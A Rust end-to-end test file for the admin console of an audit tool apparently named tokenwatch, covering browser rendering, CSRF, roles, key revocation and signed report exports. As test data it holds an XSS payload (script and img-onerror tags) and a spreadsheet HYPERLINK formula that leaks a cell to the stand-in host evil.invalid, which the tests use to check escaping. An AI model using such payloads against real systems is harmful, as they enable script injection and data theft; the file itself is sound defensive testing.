//! The admin web UI end to end: a real `tokenwatch serve`, real traffic that
//! makes the built-in detectors raise an alert, and a real headless Chromium
//! (Debian's `chromium`) driven over the DevTools protocol.
//!
//! Set `TOKENWATCH_SCREENSHOT=FILE.png` to keep the dashboard screenshot the
//! browser test takes (the README's one, with demo traffic, comes from
//! scripts/screenshot.sh).

use std::collections::HashMap;
use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::time::Duration;

use audit_store::{AlertFilter, AlertStatus, AuditReader, EventFilter, Outcome, StoredEvent};
use headless_chrome::protocol::cdp::Page::CaptureScreenshotFormatOption;
use headless_chrome::{Browser, LaunchOptions, Tab};
use tokenwatch_e2e::{audit_reader, cli, data_dir, http, wait_for, Server};

const ADMIN_PW: &str = "admin-password-for-the-ui-test";
const ANALYST_PW: &str = "analyst-password-for-the-ui-test";
/// Attacker-chosen text that the console must show and export harmlessly.
const EVIL_USER: &str = "<script>window.__xss=1</script><img src=x onerror=\"window.__xss=2\">";
const EVIL_UA: &str = "=HYPERLINK(\"http://evil.invalid/?leak=\"&A1,\"click me\")";

/// A server whose console users are `admin` and `analyst` with known passwords.
fn server_with_users() -> (tempfile::TempDir, Server) {
    let (tmp, dir) = data_dir();
    for (name, role, pw) in [
        ("admin", "admin", ADMIN_PW),
        ("analyst", "analyst", ANALYST_PW),
    ] {
        let out = cli(
            &dir,
            &["users", "add", name, "--role", role, "--password-stdin"],
            pw,
        );
        assert_eq!(out.status, 0, "users add {name}: {}", out.stderr);
    }
    let s = Server::start(&dir);
    (tmp, s)
}

/// Failed OAuth logins for `user` with a hostile user agent: enough for a
/// brute-force alert from the built-in detector.
fn attack(s: &Server, user: &str, n: usize) {
    let client = reqwest::blocking::Client::builder()
        .user_agent(EVIL_UA)
        .build()
        .unwrap();
    for _ in 0..n {
        let r = client
            .post(s.url("/oauth/token"))
            .form(&[
                ("grant_type", "password"),
                ("username", user),
                ("password", "not-the-password"),
            ])
            .send()
            .unwrap();
        assert_eq!(r.status(), 400);
    }
    // Some successes too, so both lines of the chart have data.
    for _ in 0..3 {
        let r = http()
            .post(s.url("/oauth/token"))
            .form(&[
                ("grant_type", "password"),
                ("username", "admin"),
                ("password", ADMIN_PW),
            ])
            .send()
            .unwrap();
        assert!(r.status().is_success());
    }
}

fn all_events(r: &AuditReader, f: &EventFilter) -> Vec<StoredEvent> {
    let mut out = Vec::new();
    let mut after = None;
    loop {
        let p = r.query_events(f, after, 1000).unwrap();
        out.extend(p.items);
        match p.next {
            Some(c) => after = Some(c),
            None => return out,
        }
    }
}

fn browser() -> (tempfile::TempDir, Browser) {
    let profile = tempfile::tempdir().unwrap();
    let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
        .expect("Debian's chromium package is needed (.ci/run installs it)");
    let opts = LaunchOptions::default_builder()
        .path(Some(chromium))
        .headless(true)
        .sandbox(false)
        .user_data_dir(Some(profile.path().to_path_buf()))
        .window_size(Some((1400, 1100)))
        .idle_browser_timeout(Duration::from_secs(180))
        .args(
            [
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--no-first-run",
            ]
            .iter()
            .map(OsStr::new)
            .collect(),
        )
        .build()
        .unwrap();
    (
        profile,
        Browser::new(opts).expect("launching headless chromium"),
    )
}

fn js(tab: &Tab, expr: &str) -> serde_json::Value {
    let r = tab.evaluate(expr, true).expect(expr);
    r.value.unwrap_or(serde_json::Value::Null)
}

/// Evaluates `expr` (which must produce a JSON string) and parses it.
fn js_json(tab: &Tab, expr: &str) -> serde_json::Value {
    let v = js(tab, expr);
    serde_json::from_str(v.as_str().unwrap_or("null")).expect("JSON from the page")
}

fn type_into(tab: &Tab, selector: &str, text: &str) {
    tab.wait_for_element(selector).unwrap().click().unwrap();
    tab.type_str(text).unwrap();
}

/// Clicks `selector` and waits until the page it leads to has `then`
/// (a click navigates asynchronously, after the click call returns).
fn click_then(tab: &Tab, selector: &str, then: &str) {
    let marker = "window.__twBeforeClick";
    js(tab, &format!("{marker} = true"));
    tab.wait_for_element(selector).unwrap().click().unwrap();
    wait_for(&format!("{then} after clicking {selector}"), || {
        let fresh = js(tab, &format!("typeof {marker} === 'undefined'"));
        let found = js(tab, &format!("!!document.querySelector({then:?})"));
        (fresh == true && found == true).then_some(())
    });
}

fn csv_rows(text: &str) -> Vec<HashMap<String, String>> {
    let mut rdr = csv::Reader::from_reader(text.as_bytes());
    let headers = rdr.headers().unwrap().clone();
    rdr.records()
        .map(|r| {
            let r = r.unwrap();
            headers
                .iter()
                .zip(r.iter())
                .map(|(h, v)| (h.to_string(), v.to_string()))
                .collect()
        })
        .collect()
}

#[test]
fn console_in_a_real_browser() {
    let (_tmp, s) = server_with_users();
    attack(&s, EVIL_USER, 14);
    let r = audit_reader(&s);
    let alert = wait_for("a brute-force alert", || {
        r.list_alerts(&AlertFilter::default(), None, 100)
            .unwrap()
            .items
            .into_iter()
            .find(|a| a.detector == "brute-force")
    });

    let (_profile, browser) = browser();
    let tab = browser.new_tab().unwrap();
    tab.set_default_timeout(Duration::from_secs(30));

    // Log in.
    tab.navigate_to(&s.url("/admin/")).unwrap();
    tab.wait_until_navigated().unwrap();
    type_into(&tab, "#username", "admin");
    type_into(&tab, "#password", ADMIN_PW);
    click_then(&tab, "#login-submit", "#charts");
    assert!(
        tab.get_url().ends_with("/admin/dashboard"),
        "{}",
        tab.get_url()
    );
    assert_eq!(
        js(&tab, "document.getElementById('whoami').textContent"),
        "admin (admin)"
    );
    // The session cookie is not readable from script.
    assert_eq!(js(&tab, "document.cookie"), "");

    // The dashboard's charts are drawn, and their numbers agree with the store.
    wait_for("charts drawn", || {
        let v = js(
            &tab,
            "document.getElementById('charts').getAttribute('data-ready')",
        );
        (v == "true").then_some(())
    });
    let inked = js_json(
        &tab,
        "JSON.stringify(Array.from(document.querySelectorAll('#charts canvas')).map(function (c) {
            var d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data, n = 0;
            for (var i = 3; i < d.length; i += 4) { if (d[i]) { n++; } }
            return [c.id, c.width, n];
        }))",
    );
    let inked = inked.as_array().unwrap();
    assert_eq!(inked.len(), 5, "{inked:?}");
    for c in inked {
        assert!(c[1].as_u64().unwrap() > 100, "canvas too small: {c:?}");
        assert!(c[2].as_u64().unwrap() > 500, "canvas not drawn: {c:?}");
    }
    let d = js_json(&tab, "JSON.stringify(window.twDashboard)");
    let (from_us, to_us) = (d["from_us"].as_i64().unwrap(), d["to_us"].as_i64().unwrap());
    let in_range = all_events(
        &r,
        &EventFilter {
            from_us: Some(from_us),
            to_us: Some(to_us),
            ..Default::default()
        },
    );
    let failures = in_range
        .iter()
        .filter(|e| e.outcome == Outcome::Failure)
        .count() as u64;
    let successes = in_range.len() as u64 - failures;
    assert_eq!(d["totals"]["failure"].as_u64(), Some(failures), "{d}");
    assert_eq!(d["totals"]["success"].as_u64(), Some(successes), "{d}");
    assert_eq!(
        js(&tab, "document.getElementById('total-failure').textContent"),
        failures.to_string()
    );
    let evil_failures = in_range
        .iter()
        .filter(|e| e.outcome == Outcome::Failure && e.username.as_deref() == Some(EVIL_USER))
        .count() as u64;
    assert_eq!(evil_failures, 14);
    assert!(
        d["top_users"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u[0] == EVIL_USER && u[1].as_u64() == Some(evil_failures)),
        "{d}"
    );
    assert!(
        d["open_alerts"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a[1].as_u64() >= Some(1)),
        "{d}"
    );
    if let Ok(path) = std::env::var("TOKENWATCH_SCREENSHOT") {
        let png = tab
            .capture_screenshot(CaptureScreenshotFormatOption::Png, None, None, true)
            .unwrap();
        std::fs::write(&path, png).unwrap();
    }

    // The event explorer: filter by the hostile username.
    tab.navigate_to(&s.url("/admin/events")).unwrap();
    tab.wait_until_navigated().unwrap();
    type_into(&tab, "#filter-user", EVIL_USER);
    click_then(&tab, "#filter-submit", "#events");
    let shown = js_json(
        &tab,
        "JSON.stringify(Array.from(document.querySelectorAll('#events tbody tr')).map(function (tr) {
            return [tr.querySelector('td.user').textContent, tr.querySelector('td.ua').textContent];
        }))",
    );
    let shown = shown.as_array().unwrap();
    let of_user = all_events(
        &r,
        &EventFilter {
            subject_or_username: Some(EVIL_USER.into()),
            ..Default::default()
        },
    );
    // The 14 failed logins, and whatever the server's lockout policy added.
    assert!(of_user.len() >= 14);
    assert_eq!(shown.len(), of_user.len().min(50), "{shown:?}");
    for row in shown {
        assert_eq!(row[0], EVIL_USER);
    }
    let with_ua = shown.iter().filter(|row| row[1] == EVIL_UA).count();
    assert_eq!(
        with_ua,
        of_user
            .iter()
            .filter(|e| e.user_agent.as_deref() == Some(EVIL_UA))
            .count()
    );
    assert!(with_ua >= 14);
    // Shown as text: no element was injected and no script ran.
    assert_eq!(js(&tab, "document.querySelectorAll('img').length"), 0);
    assert_eq!(js(&tab, "document.scripts.length"), 2);
    assert_eq!(js(&tab, "typeof window.__xss"), "undefined");

    // One event's detail, with its neighbours.
    let first = js(
        &tab,
        "document.querySelector('#events tbody a').getAttribute('href')",
    );
    tab.navigate_to(&s.url(first.as_str().unwrap())).unwrap();
    tab.wait_until_navigated().unwrap();
    let detail = js(&tab, "document.getElementById('event-detail').textContent");
    assert!(detail.as_str().unwrap().contains(EVIL_UA));
    assert_eq!(
        js(&tab, "document.querySelectorAll('tr.current').length"),
        2
    );
    assert_eq!(js(&tab, "typeof window.__xss"), "undefined");

    // Acknowledge the alert.
    tab.navigate_to(&s.url("/admin/alerts?status=open"))
        .unwrap();
    tab.wait_until_navigated().unwrap();
    click_then(
        &tab,
        &format!("a[href='/admin/alerts/{}']", alert.id),
        "#alert-actions",
    );
    type_into(
        &tab,
        "#alert-actions input[name=note]",
        "seen, looking into it",
    );
    click_then(&tab, "#ack", "#alert-status");
    assert_eq!(
        js(&tab, "document.getElementById('alert-status').textContent"),
        "acknowledged"
    );
    let stored = r.get_alert(alert.id).unwrap().unwrap();
    assert_eq!(stored.status, AlertStatus::Acknowledged);
    assert_eq!(stored.status_by.as_deref(), Some("admin"));
    assert_eq!(stored.status_note.as_deref(), Some("seen, looking into it"));

    // Download the events report for the hostile user, as the page's form asks for it.
    let reports = format!("/admin/reports?{}", query_pair("user", EVIL_USER));
    tab.navigate_to(&s.url(&reports)).unwrap();
    tab.wait_until_navigated().unwrap();
    let got = js_json(
        &tab,
        "(async function () {
            var f = document.getElementById('report-form');
            var url = f.getAttribute('action') + '?' + new URLSearchParams(new FormData(f)).toString();
            var r = await fetch(url, { credentials: 'same-origin' });
            var csv = await r.text();
            var m = await fetch(document.getElementById('manifest-link').getAttribute('href'));
            return JSON.stringify({ status: r.status, type: r.headers.get('content-type'),
                disposition: r.headers.get('content-disposition'), csv: csv,
                manifest_status: m.status, manifest: await m.text() });
        })()",
    );
    assert_eq!(got["status"], 200, "{got}");
    assert!(got["disposition"]
        .as_str()
        .unwrap()
        .starts_with("attachment"));
    let csv_text = got["csv"].as_str().unwrap();
    let rows = csv_rows(csv_text);
    assert_eq!(rows.len(), of_user.len());
    for row in &rows {
        // Same text, and the formula is quoted so no spreadsheet evaluates it.
        assert_eq!(row["username"], EVIL_USER);
        assert!(row["user_agent"].is_empty() || row["user_agent"] == format!("'{EVIL_UA}"));
    }
    assert_eq!(
        rows.iter().filter(|r| !r["user_agent"].is_empty()).count(),
        with_ua
    );
    let ids: Vec<i64> = rows.iter().map(|r| r["id"].parse().unwrap()).collect();
    let mut expected: Vec<i64> = all_events(
        &r,
        &EventFilter {
            subject_or_username: Some(EVIL_USER.into()),
            ..Default::default()
        },
    )
    .iter()
    .map(|e| e.id)
    .collect();
    expected.sort();
    assert_eq!(ids, expected);

    // The signed manifest checks out offline, and a edited file does not.
    assert_eq!(got["manifest_status"], 200, "{got}");
    let work = tempfile::tempdir().unwrap();
    let csv_path = work.path().join("report.csv");
    let manifest_path = work.path().join("report.manifest.jws");
    std::fs::write(&csv_path, csv_text).unwrap();
    std::fs::write(&manifest_path, got["manifest"].as_str().unwrap()).unwrap();
    let ok = verify_export(&s.data_dir, &csv_path, &manifest_path);
    assert_eq!(ok.status, 0, "{} {}", ok.stdout, ok.stderr);
    assert!(
        ok.stdout.contains(&format!("{} rows", rows.len())),
        "{}",
        ok.stdout
    );
    std::fs::write(
        &csv_path,
        csv_text.replacen("auth.login.failure", "auth.login.success", 1),
    )
    .unwrap();
    let bad = verify_export(&s.data_dir, &csv_path, &manifest_path);
    assert_ne!(bad.status, 0, "an edited report must not verify");

    // Every console login and action was audited.
    let kinds: Vec<String> = all_events(&r, &EventFilter::default())
        .into_iter()
        .filter(|e| e.kind.starts_with("admin.") && e.username.as_deref() == Some("admin"))
        .map(|e| e.kind)
        .collect();
    for k in ["admin.login", "admin.action", "admin.export"] {
        assert!(kinds.iter().any(|x| x == k), "{k} missing in {kinds:?}");
    }
}

fn query_pair(k: &str, v: &str) -> String {
    reqwest::Url::parse_with_params("http://x/", &[(k, v)])
        .unwrap()
        .query()
        .unwrap_or_default()
        .to_string()
}

fn verify_export(data: &Path, csv: &Path, manifest: &Path) -> tokenwatch_e2e::CliOutput {
    cli(
        data,
        &[
            "audit",
            "verify-export",
            csv.to_str().unwrap(),
            manifest.to_str().unwrap(),
        ],
        "",
    )
}

// ------------------------------------------------------------ HTTP level

/// A console client without a browser: keeps the two console cookies by hand.
struct Console<'a> {
    s: &'a Server,
    client: reqwest::blocking::Client,
    cookies: HashMap<String, String>,
    csrf: String,
}

impl<'a> Console<'a> {
    fn new(s: &'a Server) -> Self {
        Console {
            s,
            client: reqwest::blocking::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap(),
            cookies: HashMap::new(),
            csrf: String::new(),
        }
    }

    fn keep_cookies(&mut self, resp: &reqwest::blocking::Response) {
        for v in resp.headers().get_all("set-cookie") {
            let v = v.to_str().unwrap();
            let (pair, _) = v.split_once(';').unwrap_or((v, ""));
            let (k, val) = pair.split_once('=').unwrap();
            self.cookies.insert(k.to_string(), val.to_string());
        }
    }

    fn cookie_header(&self) -> String {
        self.cookies
            .iter()
            .filter(|(_, v)| !v.is_empty())
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("; ")
    }

    fn get(&mut self, path: &str) -> reqwest::blocking::Response {
        let r = self
            .client
            .get(self.s.url(path))
            .header("cookie", self.cookie_header())
            .send()
            .unwrap();
        self.keep_cookies(&r);
        r
    }

    fn post(&mut self, path: &str, form: &[(&str, &str)]) -> reqwest::blocking::Response {
        let r = self
            .client
            .post(self.s.url(path))
            .header("cookie", self.cookie_header())
            .form(form)
            .send()
            .unwrap();
        self.keep_cookies(&r);
        r
    }

    fn csrf_of(html: &str) -> String {
        let at = html.find("name=\"csrf\" value=\"").expect("csrf field") + 19;
        html[at..].split('"').next().unwrap().to_string()
    }

    fn login(&mut self, user: &str, pw: &str) -> reqwest::blocking::Response {
        let page = self.get("/admin/login").text().unwrap();
        let token = Self::csrf_of(&page);
        let r = self.post(
            "/admin/login",
            &[("username", user), ("password", pw), ("csrf", &token)],
        );
        if r.status() == 303 {
            let dash = self.get("/admin/dashboard").text().unwrap();
            self.csrf = Self::csrf_of(&dash);
        }
        r
    }
}

#[test]
fn console_security_over_http() {
    let (_tmp, s) = server_with_users();
    attack(&s, "victim", 12);
    let r = audit_reader(&s);
    let alert = wait_for("a brute-force alert", || {
        r.list_alerts(&AlertFilter::default(), None, 100)
            .unwrap()
            .items
            .into_iter()
            .find(|a| a.detector == "brute-force")
    });

    // Security headers, and its own CSP, on every console page.
    let mut anon = Console::new(&s);
    let login = anon.get("/admin/login");
    assert_eq!(login.status(), 200);
    let h = login.headers();
    let csp = h["content-security-policy"].to_str().unwrap();
    assert!(
        csp.contains("default-src 'self'") && csp.contains("frame-ancestors 'none'"),
        "{csp}"
    );
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(h["x-frame-options"], "DENY");
    assert_eq!(h["referrer-policy"], "no-referrer");
    // The API keeps its stricter one.
    let api = http().get(s.url("/healthz")).send().unwrap();
    assert!(api.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .starts_with("default-src 'none'"));

    // Pages need a session.
    let r303 = anon.get("/admin/events");
    assert_eq!(r303.status(), 303);
    assert_eq!(r303.headers()["location"], "/admin/login");
    assert_eq!(anon.get("/admin/api/dashboard").status(), 303);

    // A login without the login CSRF token is refused.
    let forged = anon.post(
        "/admin/login",
        &[
            ("username", "admin"),
            ("password", ADMIN_PW),
            ("csrf", "forged"),
        ],
    );
    assert_eq!(forged.status(), 403);

    // Analyst: logs in with an HttpOnly, SameSite=Strict session cookie...
    let mut analyst = Console::new(&s);
    let resp = analyst.login("analyst", ANALYST_PW);
    assert_eq!(resp.status(), 303);
    let set = resp
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_string())
        .find(|c| c.starts_with("tw_session="))
        .expect("session cookie");
    assert!(
        set.contains("HttpOnly") && set.contains("SameSite=Strict"),
        "{set}"
    );
    assert_eq!(analyst.get("/admin/plugins").status(), 200);

    // ...cannot disable a plugin, even with a valid CSRF token (checked on the server)...
    let csrf = analyst.csrf.clone();
    let denied = analyst.post("/admin/plugins/brute-force/disable", &[("csrf", &csrf)]);
    assert_eq!(denied.status(), 403);
    let page = analyst.get("/admin/plugins").text().unwrap();
    assert!(page.contains("plugin-running"), "the plugin must still run");

    // ...but can acknowledge an alert, only with the CSRF token.
    let path = format!("/admin/alerts/{}/status", alert.id);
    let no_token = analyst.post(&path, &[("action", "close")]);
    assert_eq!(no_token.status(), 403);
    let wrong = analyst.post(&path, &[("action", "close"), ("csrf", "nope")]);
    assert_eq!(wrong.status(), 403);
    assert_eq!(
        r.get_alert(alert.id).unwrap().unwrap().status,
        AlertStatus::Open
    );
    let ok = analyst.post(&path, &[("action", "suppress"), ("csrf", &csrf)]);
    assert_eq!(ok.status(), 303);
    let a = r.get_alert(alert.id).unwrap().unwrap();
    assert_eq!(a.status, AlertStatus::Suppressed);
    assert_eq!(a.status_by.as_deref(), Some("analyst"));

    // An exception for the alert's user, added from the alert, listed, expired.
    let alert_page = analyst
        .get(&format!("/admin/alerts/{}", alert.id))
        .text()
        .unwrap();
    assert!(
        alert_page.contains("/admin/exceptions/new?detector=brute-force"),
        "no exception link"
    );
    let added = analyst.post(
        "/admin/exceptions",
        &[
            ("csrf", &csrf),
            ("detector", "brute-force"),
            ("user", "victim"),
            ("reason", "pen test <b>until Friday</b>"),
            ("hours", "2"),
        ],
    );
    assert_eq!(added.status(), 303);
    let list = analyst.get("/admin/exceptions").text().unwrap();
    assert!(
        list.contains("pen test &#60;b&#62;until Friday&#60;/b&#62;"),
        "{list}"
    );
    assert!(!list.contains("<b>until"), "{list}");
    let at = list.find("/admin/exceptions/").unwrap();
    let expire = list[at..].split('"').next().unwrap().to_string();
    assert!(expire.ends_with("/expire"), "{expire}");
    // Edit it first: a new reason and a longer life.
    let edit = expire.replace("/expire", "/edit");
    assert_eq!(
        analyst
            .post(
                &edit,
                &[
                    ("csrf", &csrf),
                    ("reason", "pen test, extended"),
                    ("hours", "48")
                ]
            )
            .status(),
        303
    );
    let list = analyst.get("/admin/exceptions").text().unwrap();
    assert!(list.contains("pen test, extended"), "{list}");
    assert_eq!(analyst.post(&expire, &[("csrf", &csrf)]).status(), 303);
    let list = analyst.get("/admin/exceptions").text().unwrap();
    assert!(
        list.contains("exc-revoked") && !list.contains("exc-active"),
        "{list}"
    );

    // An admin may reload a plugin.
    let mut admin = Console::new(&s);
    assert_eq!(admin.login("admin", ADMIN_PW).status(), 303);
    let csrf = admin.csrf.clone();
    assert_eq!(
        admin
            .post("/admin/plugins/brute-force/reload", &[("csrf", &csrf)])
            .status(),
        303
    );

    // Logout ends the session.
    let csrf = analyst.csrf.clone();
    assert_eq!(
        analyst.post("/admin/logout", &[("csrf", &csrf)]).status(),
        303
    );
    assert_eq!(analyst.get("/admin/events").status(), 303);

    // Repeated failures lock the account out, even for the right password.
    let mut guesser = Console::new(&s);
    for _ in 0..5 {
        assert_eq!(
            guesser.login("analyst", "wrong-password-guess").status(),
            401
        );
    }
    assert_eq!(guesser.login("analyst", ANALYST_PW).status(), 429);

    // The refusals are audit events.
    let evs = all_events(&r, &EventFilter::default());
    let reasons: Vec<(&str, &str)> = evs
        .iter()
        .filter(|e| e.kind.starts_with("admin."))
        .map(|e| (e.kind.as_str(), e.reason.as_deref().unwrap_or("")))
        .collect();
    for want in [
        ("admin.login", "csrf"),
        ("admin.action", "forbidden"),
        ("admin.action", "csrf"),
        ("admin.login", "bad_credentials"),
        ("admin.login", "locked_out"),
    ] {
        assert!(reasons.contains(&want), "{want:?} missing in {reasons:?}");
    }
    // No password reached the audit trail.
    s.stop();
    for (path, bytes) in tokenwatch_e2e::all_file_bytes(&_tmp.path().join("data")) {
        for pw in [ADMIN_PW, ANALYST_PW] {
            assert!(
                !tokenwatch_e2e::contains(&bytes, pw.as_bytes()),
                "password found in {}",
                path.display()
            );
        }
    }
}

/// POSTs one NDJSON event to the ingest API with `key`; returns the status.
fn ingest_one(s: &Server, key: &str) -> u16 {
    http()
        .post(s.url("/api/v1/events"))
        .header("Authorization", format!("Bearer {key}"))
        .header("Content-Type", "application/x-ndjson")
        .body(r#"{"kind":"token.verified","outcome":"success","subject":"u-1"}"#)
        .send()
        .unwrap()
        .status()
        .as_u16()
}

#[test]
fn ingest_sources_are_added_and_revoked_from_the_console_while_serving() {
    let (_tmp, s) = server_with_users();
    let mut admin = Console::new(&s);
    assert_eq!(admin.login("admin", ADMIN_PW).status(), 303);
    let mut analyst = Console::new(&s);
    assert_eq!(analyst.login("analyst", ANALYST_PW).status(), 303);

    // An analyst sees the page but cannot add a source.
    assert_eq!(analyst.get("/admin/sources").status(), 200);
    let csrf = analyst.csrf.clone();
    let denied = analyst.post("/admin/sources", &[("csrf", &csrf), ("name", "sneaky")]);
    assert_eq!(denied.status(), 403);

    // The admin adds one; the key is on that answer only.
    let no_csrf = admin.post("/admin/sources", &[("name", "billing-api")]);
    assert_eq!(no_csrf.status(), 403);
    let csrf = admin.csrf.clone();
    let added = admin.post(
        "/admin/sources",
        &[("csrf", &csrf), ("name", "billing-api")],
    );
    assert_eq!(added.status(), 200);
    assert_eq!(added.headers()["cache-control"], "no-store");
    let page = added.text().unwrap();
    let at = page.find("twk_").expect("the new key on the page");
    let key: String = page[at..]
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-')
        .collect();
    assert!(key.len() > 40, "{key}");
    let listing = admin.get("/admin/sources").text().unwrap();
    assert!(listing.contains("billing-api") && listing.contains("active"));
    assert!(!listing.contains(&key), "a listing never shows a key again");
    let dup = admin.post(
        "/admin/sources",
        &[("csrf", &csrf), ("name", "billing-api")],
    );
    assert_eq!(dup.status(), 400);
    assert!(dup.text().unwrap().contains("already exists"));

    // The running server takes the key at once, and refuses it once revoked.
    assert_eq!(ingest_one(&s, &key), 200);
    let path = "/admin/sources/billing-api/revoke";
    let csrf = analyst.csrf.clone();
    assert_eq!(analyst.post(path, &[("csrf", &csrf)]).status(), 403);
    assert_eq!(
        ingest_one(&s, &key),
        200,
        "an analyst's refused revoke changed nothing"
    );
    let csrf = admin.csrf.clone();
    let revoked = admin.post(path, &[("csrf", &csrf)]);
    assert_eq!(revoked.status(), 303);
    assert_eq!(ingest_one(&s, &key), 401);
    assert!(admin
        .get("/admin/sources")
        .text()
        .unwrap()
        .contains("revoked"));

    // Each change is audited, by whom, without the key.
    let r = audit_reader(&s);
    let actions: Vec<StoredEvent> = all_events(
        &r,
        &EventFilter {
            kind: Some("admin.action".into()),
            ..Default::default()
        },
    );
    let did = |action: &str, outcome: Outcome| {
        actions.iter().any(|e| {
            e.detail["action"] == action
                && e.outcome == outcome
                && (outcome == Outcome::Failure || e.detail["source"] == "billing-api")
        })
    };
    assert!(did("source.add", Outcome::Success));
    assert!(did("source.revoke", Outcome::Success));
    assert!(did("source.add", Outcome::Failure), "the analyst's refusal");
    assert!(
        did("source.revoke", Outcome::Failure),
        "the analyst's refusal"
    );
    let admin_revoke = actions
        .iter()
        .find(|e| e.detail["action"] == "source.revoke" && e.outcome == Outcome::Success)
        .unwrap();
    assert_eq!(admin_revoke.username.as_deref(), Some("admin"));
    s.stop();
    for (file, bytes) in tokenwatch_e2e::all_file_bytes(&_tmp.path().join("data")) {
        assert!(
            !tokenwatch_e2e::contains(&bytes, key.as_bytes()),
            "the key is stored in {}",
            file.display()
        );
    }
}

// ------------------------------------------------------------ odd source names

#[test]
fn every_source_name_the_console_accepts_revokes_from_its_button() {
    let (_tmp, s) = server_with_users();
    let (_profile, browser) = browser();
    let tab = browser.new_tab().unwrap();
    tab.set_default_timeout(Duration::from_secs(30));
    tab.navigate_to(&s.url("/admin/")).unwrap();
    tab.wait_until_navigated().unwrap();
    type_into(&tab, "#username", "admin");
    type_into(&tab, "#password", ADMIN_PW);
    click_then(&tab, "#login-submit", "#charts");

    // What the name validator lets through, the odd ones first: `.` and `..` are
    // what a browser folds out of a URL path.
    let long = "z.".repeat(32);
    for name in [
        ".",
        "..",
        "...",
        "-",
        "@",
        "_",
        ".-@_",
        "a..b",
        long.as_str(),
    ] {
        tab.navigate_to(&s.url("/admin/sources")).unwrap();
        tab.wait_until_navigated().unwrap();
        type_into(&tab, "#source-form input[name=name]", name);
        click_then(&tab, "#source-add", "#new-key-value");
        let key = js(&tab, "document.getElementById('new-key-value').textContent");
        let key = key.as_str().unwrap().trim().to_string();
        assert_eq!(ingest_one(&s, &key), 200, "{name}: the new key works");

        tab.navigate_to(&s.url("/admin/sources")).unwrap();
        tab.wait_until_navigated().unwrap();
        let found = js(
            &tab,
            &format!(
                "(function () {{
                    var f = Array.from(document.querySelectorAll('#sources form')).find(function (f) {{
                        var n = f.querySelector('input[name=name]');
                        return n && n.value === {name:?};
                    }});
                    if (!f) {{ return false; }}
                    f.querySelector('button').id = 'revoke-target';
                    return true;
                }})()"
            ),
        );
        assert_eq!(found, true, "{name}: no Revoke button");
        click_then(&tab, "#revoke-target", "#sources");
        assert!(
            tab.get_url().ends_with("/admin/sources"),
            "{name}: {}",
            tab.get_url()
        );
        let state = js(
            &tab,
            &format!(
                "Array.from(document.querySelectorAll('#sources tbody tr'))
                    .filter(function (tr) {{ return tr.cells[0].textContent === {name:?}; }})
                    .map(function (tr) {{ return tr.cells[3].textContent; }}).join('|')"
            ),
        );
        assert!(
            state.as_str().unwrap().starts_with("revoked"),
            "{name}: {state}"
        );
        assert_eq!(ingest_one(&s, &key), 401, "{name}: the key still works");
    }

    // A name the validator refuses gets a message saying what a name may be.
    tab.navigate_to(&s.url("/admin/sources")).unwrap();
    tab.wait_until_navigated().unwrap();
    type_into(&tab, "#source-form input[name=name]", "billing/api");
    tab.wait_for_element("#source-add")
        .unwrap()
        .click()
        .unwrap();
    wait_for("the refusal page", || {
        let text = js(&tab, "document.body ? document.body.textContent : ''");
        text.as_str()
            .unwrap_or_default()
            .contains("1-64 characters")
            .then_some(())
    });
}

// ------------------------------------------------------------ reports read the record

/// `(id, time, username, hash hex)` of the record's events for `user`, read from
/// `audit.db` itself, oldest first, with the time as a report writes it.
fn record_rows_of(data: &Path, user: &str) -> Vec<(i64, String, String, String)> {
    let db = rusqlite::Connection::open_with_flags(
        data.join("audit.db"),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    let mut st = db
        .prepare(
            "SELECT id, time_us, username, hash FROM events
             WHERE username = ?1 OR subject = ?1 ORDER BY time_us, id",
        )
        .unwrap();
    st.query_map([user], |r| {
        let hash: Vec<u8> = r.get(3)?;
        Ok((
            r.get(0)?,
            audit_store::rfc3339_us(r.get(1)?),
            r.get(2)?,
            hash.iter().map(|b| format!("{b:02x}")).collect(),
        ))
    })
    .unwrap()
    .map(Result::unwrap)
    .collect()
}

/// The same four columns from an events CSV.
fn csv_rows_of(text: &str) -> Vec<(i64, String, String, String)> {
    csv_rows(text)
        .into_iter()
        .map(|r| {
            (
                r["id"].parse().unwrap(),
                r["time"].clone(),
                r["username"].clone(),
                r["hash"].clone(),
            )
        })
        .collect()
}

#[test]
fn an_edited_query_index_never_changes_an_export_or_a_signed_report() {
    let (_tmp, s) = server_with_users();
    let dir = s.data_dir.clone();
    let victim = "victim@example.com";
    attack(&s, victim, 6);
    // Let the indexer take every row, so the edits below hit indexed rows.
    wait_for("the index to catch up", || {
        let h: serde_json::Value = http().get(s.url("/healthz")).send().ok()?.json().ok()?;
        (h["audit_store"]["index_lag"] == 0).then_some(())
    });
    s.stop();
    let truth = record_rows_of(&dir, victim);
    assert!(
        truth.len() >= 6,
        "every acknowledged failure is in the record"
    );

    // Edit the index behind the record's back: hide a row by renaming its user,
    // move one out of time, drop one, and forge one the record never had.
    let ix = rusqlite::Connection::open(dir.join("audit-index.db")).unwrap();
    let (a, b, c, d) = (truth[0].0, truth[1].0, truth[2].0, truth[3].0);
    ix.execute_batch(&format!(
        "UPDATE ev SET username = 'someone-else' WHERE id = {a};
         UPDATE ev SET time_us = 0 WHERE id = {b};
         DELETE FROM ev WHERE id = {c};
         INSERT INTO ev (id, time_us, kind, outcome, username, client_ip, source)
             SELECT 999999, time_us, kind, outcome, username, '10.9.9.9', source FROM ev WHERE id = {d};"
    ))
    .unwrap();
    drop(ix);

    // The CLI export shows the record.
    let out = cli(&dir, &["export", "events", "--user", victim], "");
    assert_eq!(out.status, 0, "{}", out.stderr);
    assert_eq!(csv_rows_of(&out.stdout), truth, "CLI export");
    assert!(
        out.stderr.contains("from the record's events"),
        "{}",
